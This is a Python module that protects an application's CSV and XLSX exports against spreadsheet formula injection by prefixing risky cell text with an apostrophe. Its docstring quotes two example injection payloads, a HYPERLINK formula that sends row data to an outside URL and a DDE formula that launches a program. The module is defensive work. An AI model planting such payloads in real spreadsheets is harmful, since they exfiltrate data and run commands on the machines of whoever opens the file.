"""Every CSV and XLSX file the application writes goes through here: the one place that keeps a
spreadsheet from running what people typed.

A spreadsheet runs a cell as a formula when its text starts with =, +, -, @, a tab or a carriage
return (CSV injection: `=HYPERLINK("http://…?x="&A1,"clic")` sends a row away when clicked,
`=cmd|' /C calc'!A0` starts a program). Names come from imported files, motifs and analyses are
typed by the DEL's and the prestataires' staff, and the files are opened by the DEL and finance:
so every text that starts so is written with an apostrophe before it, in CSV and XLSX alike
(what was typed stays readable, nothing is dropped), and an XLSX cell of text is a text cell.

What calls nothing is written as it is, so that the contract files (docs/contrats.md) keep their
bytes: a number or a phone number written as text ("-3", "+687 27 00 00"), and native values
(numbers, dates), which a spreadsheet never reads as formulas.
"""

import re
from datetime import date, datetime, time, timedelta
from decimal import Decimal

import tablib

TYPE_CSV = "text/csv; charset=utf-8"
TYPE_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

DEBUTS_DE_FORMULE = ("=", "+", "-", "@", "\t", "\r")
NOMBRE_OU_TELEPHONE = re.compile(r"[+-]?[\d .()]+")
# What a spreadsheet stores as a value of its own type; anything else is written as its text.
VALEURS_NATIVES = (str, bool, int, float, Decimal, date, datetime, time, timedelta, type(None))


def sans_formule(valeur):
    """The value as a spreadsheet may read it: a text that would run is prefixed with an
    apostrophe; any other value is left as it is (an object is written as its text)."""
    if not isinstance(valeur, VALEURS_NATIVES):
        valeur = str(valeur)
    if (
        isinstance(valeur, str)
        and valeur.startswith(DEBUTS_DE_FORMULE)
        and not NOMBRE_OU_TELEPHONE.fullmatch(valeur)
    ):
        return f"'{valeur}"
    return valeur


def _neutre(tableau: tablib.Dataset) -> tablib.Dataset:
    headers = [sans_formule(titre) for titre in tableau.headers] if tableau.headers else None
    return tablib.Dataset(
        *(tuple(map(sans_formule, rangee)) for rangee in tableau),
        headers=headers,
        title=tableau.title,
    )


def csv(tableau: tablib.Dataset, *, separateur: str = ",") -> str:
    """The table as CSV text (tablib's dialect: quotes where needed, CRLF line ends)."""
    return _neutre(tableau).export("csv", delimiter=separateur)


def xlsx(*feuilles: tablib.Dataset) -> bytes:
    """A workbook of these sheets, in this order (headers bold, first row frozen)."""
    neutres = [_neutre(feuille) for feuille in feuilles]
    if len(neutres) == 1:
        return neutres[0].export("xlsx")
    return tablib.Databook(neutres).export("xlsx")
